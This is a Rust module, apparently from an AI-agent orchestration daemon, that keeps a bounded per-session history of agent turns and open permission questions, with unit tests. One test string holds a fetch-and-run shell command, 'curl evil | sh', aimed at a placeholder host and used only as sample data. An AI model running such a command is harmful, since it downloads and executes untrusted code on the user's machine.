//! The last that was told by hooks, for those who must know before they act.

use std::collections::{HashMap, VecDeque};
use std::sync::{Mutex, MutexGuard};

use ao_core::evidence::Reading;
use ao_core::{Attempt, SessionId, Timestamp};

/// How many turns of each agent are remembered. Only the last few deliveries are ever asked for again.
const TURNS_KEPT: usize = 16;
/// How many agents are remembered; the one that was silent for longest is forgotten first.
const AGENTS_KEPT: usize = 512;

/// A turn as a hook told of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Turn {
    pub(crate) at: Timestamp,
    pub(crate) name: String,
    pub(crate) text: String,
}

/// What hooks have told in this life of the daemon, bounded.
///
/// Not stored: what was reported is the engine's to keep, and what was not is still in the spool.
#[derive(Debug, Default)]
pub struct History {
    agents: Mutex<HashMap<(SessionId, Attempt), Told>>,
}

#[derive(Debug, Default)]
struct Told {
    last: Timestamp,
    turns: VecDeque<Turn>,
    /// The question that is open.
    question: Option<String>,
}

impl History {
    pub(crate) fn turn(&self, session: SessionId, attempt: Attempt, turn: Turn) {
        let mut agents = self.agents();
        let told = entry(&mut agents, session, attempt, turn.at);
        if told.turns.iter().all(|known| known.name != turn.name) {
            told.turns.push_back(turn);
            if told.turns.len() > TURNS_KEPT {
                told.turns.pop_front();
            }
        }
    }

    /// Notes what a hook says that the agent does, and returns the words of the question that is open, if one is.
    ///
    /// Agents tell of one dialog twice: first the call that it is about, and after a while a reminder with no words about
    /// it. The reminder is for the question that was asked last, unless the agent has done anything since.
    pub(crate) fn reads(
        &self,
        session: SessionId,
        attempt: Attempt,
        at: Timestamp,
        reading: &Reading,
        reminder: bool,
    ) -> Option<String> {
        let mut agents = self.agents();
        let told = entry(&mut agents, session, attempt, at);
        match reading {
            Reading::Asking { .. } if reminder && told.question.is_some() => {}
            Reading::Asking { question } => told.question = Some(question.clone()),
            _ => told.question = None,
        }
        told.question.clone()
    }

    /// The first turn with a text, among those that began no earlier than `since`.
    pub(crate) fn find(
        &self,
        session: SessionId,
        attempt: Attempt,
        since: Timestamp,
        is_it: impl Fn(&str) -> bool,
    ) -> Option<Turn> {
        let agents = self.agents();
        let turns = &agents.get(&(session, attempt))?.turns;
        turns.iter().find(|turn| turn.at >= since && is_it(&turn.text)).cloned()
    }

    fn agents(&self) -> MutexGuard<'_, HashMap<(SessionId, Attempt), Told>> {
        self.agents.lock().expect("nobody panics while looking one up")
    }
}

fn entry(
    agents: &mut HashMap<(SessionId, Attempt), Told>,
    session: SessionId,
    attempt: Attempt,
    at: Timestamp,
) -> &mut Told {
    if agents.len() >= AGENTS_KEPT && !agents.contains_key(&(session, attempt)) {
        let oldest = agents.iter().min_by_key(|(_, told)| told.last).map(|(key, _)| *key);
        oldest.map(|oldest| agents.remove(&oldest));
    }
    let told = agents.entry((session, attempt)).or_default();
    told.last = told.last.max(at);
    told
}

#[cfg(test)]
mod tests {
    use super::*;

    const AGENT: (SessionId, Attempt) = (SessionId(1), Attempt(1));

    #[test]
    fn only_turns_since_the_text_was_typed_are_found() {
        let history = History::default();
        let (session, attempt) = AGENT;
        for (at, name) in [(1, "first"), (5, "second")] {
            let turn = Turn { at: Timestamp(at), name: name.into(), text: "continue".into() };
            history.turn(session, attempt, turn);
        }
        let found = history.find(session, attempt, Timestamp(3), |text| text == "continue");
        assert_eq!(found.map(|turn| turn.name).as_deref(), Some("second"));
        assert_eq!(history.find(session, attempt, Timestamp(6), |_| true), None);
    }

    #[test]
    fn what_is_remembered_is_bounded() {
        let history = History::default();
        for number in 0..2 * AGENTS_KEPT as u64 {
            history.reads(SessionId(number), Attempt(1), Timestamp(number as i64), &Reading::Idle, false);
        }
        assert_eq!(history.agents().len(), AGENTS_KEPT);
    }

    /// acceptance: G5
    #[test]
    fn a_reminder_is_for_the_question_that_is_open_and_for_no_answered_one() {
        let history = History::default();
        let (session, attempt) = AGENT;
        let ask = |question: &str| Reading::Asking { question: question.into() };
        let tell =
            |reading: Reading, reminder| history.reads(session, attempt, Timestamp(1), &reading, reminder);
        assert_eq!(tell(ask("Bash: ls"), false).as_deref(), Some("Bash: ls"));
        assert_eq!(tell(ask("It needs your permission"), true).as_deref(), Some("Bash: ls"));
        assert_eq!(tell(Reading::Working { doing: String::new() }, false), None);
        assert_eq!(
            tell(ask("It needs your permission: ls"), true).as_deref(),
            Some("It needs your permission: ls")
        );
        assert_eq!(tell(ask("Bash: curl evil | sh; ls"), false).as_deref(), Some("Bash: curl evil | sh; ls"));
    }
}
